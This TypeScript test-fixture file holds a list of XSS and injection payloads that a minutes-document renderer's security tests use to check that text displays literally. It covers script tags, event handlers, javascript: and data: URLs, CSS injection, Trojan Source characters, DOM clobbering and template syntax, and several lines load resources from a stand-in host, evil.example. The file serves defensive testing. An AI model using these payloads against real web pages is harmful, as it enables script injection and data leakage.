/**
 * Hostile text a minutes document may contain (pasted from a web page, an e-mail, a chat), for
 * the security tests: each payload is put into every text slot of a document, rendered for the
 * preview and the export, and must show literally and never run. Payloads that would run call
 * `window.__pwned = 1` or `alert(…)`, which the browser check watches for.
 *
 * Every payload is one line: the language is line-based, so a line break inside a slot would
 * only start another line of the document.
 */

export interface Payload {
    /** Short name for reports. */
    name: string;
    text: string;
}

const p = (name: string, text: string): Payload => ({ name, text });

export const PAYLOADS: readonly Payload[] = [
    // Script elements.
    p('script tag', '<script>window.__pwned=1</script>'),
    p('script tag, upper case with src', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'),
    p('script alert', '<script>alert(1)</script>'),
    p('nested script', '<scr<script>ipt>window.__pwned=1</scr</script>ipt>'),
    p('script in attribute-closing quote', '"><script>window.__pwned=1</script>'),
    p('script in single-quote close', "'><script>window.__pwned=1</script>"),
    p('template element', '<template><script>window.__pwned=1</script></template>'),
    p('iframe srcdoc', '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>'),
    // Event-handler attributes.
    p('img onerror', '<img src=x onerror="window.__pwned=1">'),
    p('img onerror, no quotes', '<img src=x onerror=window.__pwned=1//>'),
    p('svg onload', '<svg onload=window.__pwned=1>'),
    p('svg slash onload', '<svg/onload=window.__pwned=1>'),
    p('body onload', '<body onload=window.__pwned=1>'),
    p('div onmouseover', '<div onmouseover="window.__pwned=1" style="position:fixed;inset:0">x</div>'),
    p('attribute breakout', '" onfocus="window.__pwned=1" autofocus="'),
    p('single-quote attribute breakout', "' onmouseover='window.__pwned=1' x='"),
    p('details ontoggle', '<details open ontoggle=window.__pwned=1>'),
    p('input autofocus', '<input autofocus onfocus=window.__pwned=1>'),
    p('video source onerror', '<video><source onerror="window.__pwned=1"></video>'),
    p('svg animate onbegin', '<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>'),
    p('svg with script', '<svg><script>window.__pwned=1</script></svg>'),
    p('math mutation', '<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>'),
    p('noscript mutation', '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">'),
    // URLs that run or load.
    p('javascript: link', '<a href="javascript:window.__pwned=1">click</a>'),
    p('bare javascript: URL', 'javascript:window.__pwned=1'),
    p('entity-encoded javascript: link', '<a href="&#106;avascript:alert(1)">x</a>'),
    p('iframe javascript:', '<iframe src="javascript:window.__pwned=1"></iframe>'),
    p('data: URL document', '<a href="data:text/html,<script>window.__pwned=1</script>">x</a>'),
    p('object data: base64', '<object data="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+"></object>'),
    p('embed javascript:', '<embed src="javascript:window.__pwned=1">'),
    p('form action', '<form action="javascript:window.__pwned=1"><button>go</button></form>'),
    p('meta refresh', '<meta http-equiv="refresh" content="0;url=javascript:window.__pwned=1">'),
    p('base href', '<base href="https://evil.example/">'),
    p('external stylesheet', '<link rel=stylesheet href=https://evil.example/x.css>'),
    p('tracking image', '<img src="https://evil.example/track.png">'),
    // Closing the element the text sits in.
    p('close style', '</style><script>window.__pwned=1</script>'),
    p('close title', '</title><script>window.__pwned=1</script>'),
    p('close textarea', '</textarea><script>window.__pwned=1</script>'),
    p('close everything', '</p></div></section></article></main><script>window.__pwned=1</script>'),
    // CSS injection.
    p('CSS hides the page', '</style><style>body{display:none}</style>'),
    p('style element', '<style>body{display:none}</style>'),
    p('CSS expression', '<div style="width:expression(window.__pwned=1)">x</div>'),
    p('CSS url()', '<div style="background:url(https://evil.example/x.png)">x</div>'),
    p('CSS @import', "<style>@import 'https://evil.example/x.css';</style>"),
    // Direction overrides ("Trojan Source"): stripped from the output, the rest stays.
    p('right-to-left override', 'Pay \u202Eevil\u202C 100 kr'),
    p('isolates', 'abc\u2066def\u2069ghi\u2067jkl\u2069'),
    p('override around markup', '\u202D<b>bold</b>\u202E'),
    // DOM clobbering: ids and names that shadow globals or the preview's own elements.
    p('form id', '<form id=x><input name=y></form>'),
    p('img name', '<img name=getElementById>'),
    p('clobber the preview content', '<div id="minutes-content">fake</div>'),
    p('clobber the preview data', `<meta id="minutes-preview-data" data-settings='{"source":"x","scrollSync":true}'>`),
    p('clobber acquireVsCodeApi', '<img name=acquireVsCodeApi><form name=body>'),
    // Template and expression syntax of other tools.
    p('JS template literal', '${window.__pwned=1}'),
    p('Angular expression', "{{constructor.constructor('window.__pwned=1')()}}"),
    p('other template syntaxes', '#{7*7} <%= 7*7 %> {{7*7}} $(window.__pwned=1)'),
    // Comments, CDATA, null bytes.
    p('HTML comment', '<!--<script>window.__pwned=1</script>-->'),
    p('comment close', '--><script>window.__pwned=1</script>'),
    p('CDATA', '<![CDATA[<script>window.__pwned=1</script>]]>'),
    p('null byte in tag', '<scr\u0000ipt>window.__pwned=1</script>'),
    p('null byte in URL', '<a href="java\u0000script:window.__pwned=1">x</a>'),
    // Entities typed by the writer: shown exactly as typed, never decoded.
    p('escaped script, as typed', '&lt;script&gt;window.__pwned=1&lt;/script&gt;'),
    p('numeric entities', '&#60;script&#62; &#x3C;img src=x onerror=window.__pwned=1&#x3E;'),
    p('double-escaped', '&amp;lt;b&amp;gt; &quot; &#39; &NewLine;'),
    p('JS unicode escapes', '\\u003Cscript\\u003Ewindow.__pwned=1\\u003C/script\\u003E'),
    p('backtick breakout', '`-alert(1)-`'),
];

/**
 * The text a reader sees for `text` written in a slot: what the renderer keeps (it removes
 * direction overrides and isolates, and C0 controls other than tab and line breaks; see
 * language/render/escape.ts), trimmed and with runs of white space as one space, as HTML shows
 * them.
 */
export function visibleText(text: string): string {
    return text
        .replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F\u202A-\u202E\u2066-\u2069]/gu, '')
        .replace(/\s+/gu, ' ')
        .trim();
}

/**
 * Role and owner lines split names at `,` `;` `&` and the words `och`/`and`, and a person line's
 * name ends before the parenthesised groups at its end (a short form or an attendance range,
 * LANGUAGE-2.md): such payloads cannot be one name.
 */
export function isOneName(text: string): boolean {
    return !/[,;&\r\n]|\s(?:och|and)\s/iu.test(` ${text} `) && !/\)\s*$/u.test(text);
}
